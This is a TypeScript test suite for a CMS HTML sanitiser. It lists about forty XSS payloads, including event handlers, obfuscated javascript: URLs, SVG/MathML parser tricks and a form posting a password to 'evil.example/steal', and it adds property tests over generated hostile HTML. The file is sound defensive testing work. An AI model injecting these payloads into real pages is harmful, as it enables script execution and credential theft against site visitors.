import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '@/features/cms/sanitize-html';
import { contractExample } from '../../test-utils/contract-examples';
import { hazardsIn, isHarmless } from './html-hazards';

// Known payloads: script, event handlers, javascript: links in their common disguises, forms posting
// elsewhere, and the parser tricks (SVG/MathML, comments, nesting) sanitisers have failed on.
const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" ONERROR="alert(1)">`,
  `<body onload=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<div onmouseover="alert(1)">hover</div>`,
  `<p onclick='alert(1)' title="x">x</p>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href="jav&#x0A;ascript:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<form action="https://evil.example/steal" method="post"><input name="password"></form>`,
  `<form><button formaction="https://evil.example/">Send</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<input type="image" src=x onerror=alert(1)>`,
  `<isindex action="javascript:alert(1)" type=image>`,
  `<base href="javascript:alert(1)//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link rel="stylesheet" href="javascript:alert(1)">`,
  `<style>@import 'javascript:alert(1)';</style>`,
  `<div style="background:url(javascript:alert(1))">x</div>`,
  `<video poster="javascript:alert(1)"><source onerror=alert(1)></video>`,
  `<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<template><script>alert(1)</script></template>`,
  `<a href="#" onfocus=alert(1) autofocus>x</a>`,
  `<marquee onstart=alert(1)>x</marquee>`,
];

describe('spec §2 /cms/{id}: the sanitiser makes server HTML harmless', () => {
  it.each(PAYLOADS)('%s', (payload) => {
    const clean = sanitizeHtml(payload);
    expect(hazardsIn(clean)).toEqual({
      scripts: 0,
      handlers: [],
      javascriptUrls: [],
      forms: 0,
      formActions: [],
    });
    expect(clean).not.toMatch(/javascript:|vbscript:|<script|\son\w+=/i);
  });

  it("the contract's hostile article: nothing of it runs, its text and safe link stay", () => {
    const article = contractExample('content', 'cmsArticleHostile') as { data: { htmlContent: string } };
    const input = article.data.htmlContent;
    expect(isHarmless(hazardsIn(input))).toBe(false); // the example really is hostile
    const clean = sanitizeHtml(input);
    expect(isHarmless(hazardsIn(clean))).toBe(true);
    expect(clean).toContain('Keep your account safe.');
    expect(clean).toContain('href="https://www.example.com/security"');
    expect(clean).toContain('rel="noopener noreferrer"');
  });

  it('keeps ordinary article HTML in both languages', () => {
    for (const name of ['cmsArticle', 'cmsArticleChinese']) {
      const { htmlContent } = (contractExample('content', name) as { data: { htmlContent: string } }).data;
      const doc = (html: string) => new DOMParser().parseFromString(html, 'text/html').body.textContent;
      expect(doc(sanitizeHtml(htmlContent))).toBe(doc(htmlContent));
    }
  });
});

// Generated HTML: tags and attributes from a vocabulary where hazards and ordinary markup mix.
const TAGS = [
  'p',
  'a',
  'img',
  'div',
  'span',
  'b',
  'h2',
  'ul',
  'li',
  'svg',
  'form',
  'iframe',
  'script',
  'button',
];
const SAFE_TAGS = new Set(['p', 'a', 'div', 'span', 'b', 'h2', 'ul', 'li']);
const ATTRS = [
  'onclick',
  'OnError',
  'onload',
  'onmouseover',
  'href',
  'src',
  'action',
  'formaction',
  'title',
  'class',
  'target',
];
const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction']);
const VALUES = [
  'javascript:alert(1)',
  ' JAVASCRIPT:alert(1)',
  'java\tscript:alert(1)',
  'jav&#x61;script:alert(1)',
  'https://www.example.com/page',
  '/en_US/investments',
  'plain words',
  'alert(1)',
];

interface Node {
  tag: string;
  attrs: [string, string][];
  text: string;
  child: Node | null;
}

const leaf = fc.record({
  tag: fc.constantFrom(...TAGS),
  attrs: fc.array(fc.tuple(fc.constantFrom(...ATTRS), fc.constantFrom(...VALUES)), { maxLength: 3 }),
  text: fc.constantFrom('Hello', '你好', 'Tokenized bonds', ''),
});
const tree: fc.Arbitrary<Node> = fc.letrec<{ node: Node }>((tie) => ({
  node: fc.record({
    tag: leaf.map((l) => l.tag),
    attrs: leaf.map((l) => l.attrs),
    text: leaf.map((l) => l.text),
    child: fc.option(tie('node'), { depthSize: 'small', nil: null }),
  }),
})).node;

const escape = (value: string) => value.replace(/"/g, '&quot;');
// Not a component render: the generated node written out as HTML, the input of the sanitizer.
const render = (node: Node): string =>
  `<${node.tag}${node.attrs.map(([name, value]) => ` ${name}="${escape(value)}"`).join('')}>${node.text}${
    node.child ? render(node.child) : ''
  }</${node.tag}>`;

// Ordinary markup by the spec's words: safe tags whose attributes are no handler and no script URL.
const ordinary = (node: Node): boolean =>
  SAFE_TAGS.has(node.tag) &&
  node.attrs.every(
    ([name, value]) => !/^on/i.test(name) && !(URL_ATTRS.has(name) && !/^(https:|\/)/.test(value)),
  ) &&
  (node.child === null || ordinary(node.child));

const textOf = (html: string) => new DOMParser().parseFromString(html, 'text/html').body.textContent;

describe('spec §2 /cms/{id}: generated HTML (property)', () => {
  it('no output carries an on* attribute, a javascript: URL, a script or a form; ordinary HTML keeps its text', () => {
    const seen = new Set<boolean>();
    fc.assert(
      fc.property(fc.array(tree, { minLength: 1, maxLength: 3 }), (nodes) => {
        const html = nodes.map(render).join('');
        const clean = sanitizeHtml(html);
        expect(isHarmless(hazardsIn(clean))).toBe(true);
        const harmless = nodes.every(ordinary);
        seen.add(harmless);
        if (harmless) expect(textOf(clean)).toBe(textOf(html));
      }),
      { numRuns: 600 },
    );
    // Both kinds of input occurred: hostile HTML was made harmless, ordinary HTML kept.
    expect([...seen].sort()).toEqual([false, true]);
  });
});
